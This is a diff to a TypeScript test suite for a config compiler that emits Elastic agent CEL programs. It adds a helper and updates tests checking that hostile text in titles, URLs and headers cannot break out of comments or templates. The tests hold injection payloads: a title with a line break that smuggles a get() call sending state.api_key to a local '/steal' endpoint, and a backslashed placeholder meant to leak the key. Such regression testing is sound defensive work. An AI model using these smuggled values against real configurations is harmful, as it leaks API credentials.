@@ -525,6 +525,26 @@ describe('the reproductions of issue 7', () => {
     const template = compiled.files!.get(`data_stream/${stream}/agent/stream/cel.yml.hbs`)!;
     return { config: renderConfig(template, VARS), text: template };
   };
+  /**
+   * The rendered config of `stream` with `text` at `position`. Text the checks refuse (a line
+   * break in a title, a backslash in a URL: E0123-E0126) goes to the backend anyway, as the
+   * marker map's IR with the text in place, so the quoting layer is proven on its own too.
+   */
+  const renderPlaced = (
+    position: string,
+    text: string,
+    stream: string,
+  ): { config: Record<string, unknown>; text: string; refusedBy: string[] } => {
+    const checked = compileSource(placeAt(position, text).map, 'hostile.map');
+    const refusedBy = checked.diagnostics.filter((d) => d.severity === 'error').map((d) => d.code);
+    if (refusedBy.length === 0) return { ...render(placeAt(position, text).map, stream), refusedBy };
+    const marker = compileSource(placeAt(position, MARK).map, 'hostile.map');
+    const ir = substitute(marker.ir!, MARK, text, false) as IntegrationIR;
+    const out = elasticBackend.emit(ir, {});
+    expect(out.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
+    const template = out.files.find((f) => f.path === `data_stream/${stream}/agent/stream/cel.yml.hbs`)!.content;
+    return { config: renderConfig(template, VARS), text: template, refusedBy };
+  };
   const codeLines = (program: unknown): string[] =>
     String(program)
       .split('\n')
@@ -551,10 +571,10 @@ describe('the reproductions of issue 7', () => {
     try {
       const attack = (port: string): string =>
         `L\n    get("${port}/steal?k=" + state.api_key).StatusCode == 0 ? {} : //`;
-      const compiled = compile(placeAt('stream.title', attack(thief.url)).map);
-      expect(compiled.errors).toEqual([]);
-      const template = compiled.files!.get('data_stream/audit/agent/stream/cel.yml.hbs')!;
-      const config = renderConfig(template, { ...VARS, base_url: vendor.url });
+      // The checks refuse the line break (E0123); the backend alone still keeps it in the comment.
+      const placed = renderPlaced('stream.title', attack(thief.url), 'audit');
+      expect(placed.refusedBy).toEqual(['E0123']);
+      const config = renderConfig(placed.text, { ...VARS, base_url: vendor.url });
       const report = await new CelAgent(config).periodicRun();
       expect(thief.hits).toEqual([]);
       expect(report.errors).toEqual([]);
@@ -579,7 +599,8 @@ describe('the reproductions of issue 7', () => {
 
   it('a line break in a stream title stays inside the `// mapc:` comment', () => {
     const title = 'L\n    get("http://127.0.0.1:9999/steal?k=" + state.api_key).StatusCode == 0 ? {} : //';
-    const { config } = render(placeAt('stream.title', title).map, 'audit');
+    const { config, refusedBy } = renderPlaced('stream.title', title, 'audit');
+    expect(refusedBy).toEqual(['E0123']);
     const marker = render(placeAt('stream.title', MARK).map, 'audit');
     expect(codeLines(config['program'])).toEqual(codeLines(marker.config['program']));
     expect(codeLines(config['program']).join('\n')).not.toContain('9999');
@@ -588,7 +609,7 @@ describe('the reproductions of issue 7', () => {
   const backslashed = '\\{{{{api_key}}}}';
   for (const position of ['request.query.value', 'stream.title', 'request.url', 'request.header.value']) {
     it(`\`\\\\{{{{api_key}}}}\` in ${position} never renders the secret`, () => {
-      const { config } = render(placeAt(position, backslashed).map, 'audit');
+      const { config } = renderPlaced(position, backslashed, 'audit');
       const program = String(config['program']);
       expect(program).not.toContain('SECRET-API-KEY');
       expect(JSON.stringify(config).split('SECRET-API-KEY').length - 1).toBe(1); // state.api_key only
